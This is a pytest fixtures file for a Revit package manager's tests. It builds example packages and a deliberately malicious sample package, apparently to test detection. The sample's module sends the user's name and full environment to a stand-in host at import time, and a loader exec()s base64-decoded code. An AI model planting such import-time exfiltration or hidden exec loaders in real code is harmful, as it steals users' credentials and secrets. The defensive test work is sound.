"""Shared fixtures for the Python API tests (run by scripts/python-api-test)."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[3]
EXAMPLES = REPO / "examples"

# name, version, package_type, the manifest the builder must pick
EXAMPLE_FACTS = {
    "family-template-kit": ("family-template-kit", "0.4.0rc2", "template", "manifest.yaml"),
    "parameter-sync": ("parameter-sync", "3.1.0", "addon", "package.json"),
    "revitpy-utils": ("revitpy-utils", "1.4.1", "library", "revitpy.toml"),
    "room-exporter": ("room-exporter", "0.9.3", "addon", "pyproject.toml"),
    "sheet-publisher": ("sheet-publisher", "2.0.0b1", "tool", "manifest.json"),
    "wall-tools": ("wall-tools", "1.2.0", "addon", "revitpy.toml"),
}

MALICIOUS_URL = "http://collect.example.invalid/upload"

# Written for these tests: a "helper" that, when imported, posts the user's
# name and the whole environment to a literal address, and a loader that
# base64-decodes a string and exec()s it. Line numbers are asserted below.
MALICIOUS_INIT = '''\
"""Test fixture: looks like a helper, sends the user's environment away at import."""
import getpass
import json
import os
import urllib.request

payload = json.dumps({"user": getpass.getuser(), "env": dict(os.environ)}).encode()
urllib.request.urlopen("http://collect.example.invalid/upload", data=payload)


def count_walls(doc):
    return 0
'''
MALICIOUS_INIT_LINE = 8  # the urlopen call

MALICIOUS_LOADER = """\
import base64

CODE = "cHJpbnQoJ2hlbGxvJyk="


def run():
    exec(base64.b64decode(CODE))
"""
MALICIOUS_LOADER_LINE = 7  # the exec call

MALICIOUS_MANIFEST = """\
[package]
name = "quick-wall-helper"
version = "0.1.0"
description = "Test sample that exfiltrates the environment at import."
author = "Test Suite"
license = "MIT"

[package.revit_compatibility]
min_version = "2022"

[package.desktop]
package_type = "addon"
"""


def sha256_file(path: os.PathLike | str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def source_files(folder: Path) -> dict[str, bytes]:
    """Every file of an example, by its path relative to the folder (posix)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            out[p.relative_to(folder).as_posix()] = p.read_bytes()
    return out


def write_tree(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="session")
def cli_bin() -> str:
    """The revitpy-install binary: REVITPY_INSTALL_BIN (scripts/python-api-test
    sets it), else the debug build under CARGO_TARGET_DIR."""
    explicit = os.environ.get("REVITPY_INSTALL_BIN")
    if explicit:
        if not Path(explicit).is_file():
            pytest.fail(f"REVITPY_INSTALL_BIN={explicit} does not exist")
        return explicit
    target = os.environ.get("CARGO_TARGET_DIR", str(Path.home() / ".cache/revitpy-registry/target"))
    guess = Path(target) / "debug" / "revitpy-install"
    if guess.is_file():
        return str(guess)
    found = shutil.which("revitpy-install")
    if found:
        return found
    pytest.skip("revitpy-install not built: set REVITPY_INSTALL_BIN (scripts/python-api-test does)")


@pytest.fixture(scope="session")
def run_cli(cli_bin):
    def run(*args: str, check: bool = True) -> subprocess.CompletedProcess:
        proc = subprocess.run(
            [cli_bin, *args],
            capture_output=True,
            text=True,
            timeout=300,
            env={**os.environ, "NO_COLOR": "1"},
        )
        if check and proc.returncode != 0:
            raise AssertionError(
                f"revitpy-install {' '.join(args)} exited {proc.returncode}\n"
                f"stdout: {proc.stdout}\nstderr: {proc.stderr}"
            )
        return proc

    return run


@pytest.fixture(scope="session")
def built_examples(tmp_path_factory) -> dict[str, tuple[Path, dict]]:
    """Every example built once through the Python API: name -> (file, build_info)."""
    from revitpy_package_manager.builder.rpyx_format import RPYXBuilder

    out = tmp_path_factory.mktemp("built")
    result = {}
    for name in EXAMPLE_FACTS:
        builder = RPYXBuilder(str(EXAMPLES / name))
        builder.load_manifest()
        path = out / f"{name}.rpyx"
        info = builder.build_package(str(path))
        result[name] = (path, info)
    return result


@pytest.fixture()
def malicious_source(tmp_path) -> Path:
    return write_tree(
        tmp_path / "quick-wall-helper",
        {
            "revitpy.toml": MALICIOUS_MANIFEST,
            "README.md": "# quick-wall-helper\n",
            "LICENSE": "MIT\n",
            "src/__init__.py": MALICIOUS_INIT,
            "src/loader.py": MALICIOUS_LOADER,
        },
    )


@pytest.fixture()
def malicious_package(malicious_source, tmp_path) -> Path:
    from revitpy_package_manager.builder.rpyx_format import RPYXBuilder

    builder = RPYXBuilder(str(malicious_source))
    builder.load_manifest()
    out = tmp_path / "quick-wall-helper-0.1.0.rpyx"
    builder.build_package(str(out))
    assert out.is_file()
    return out
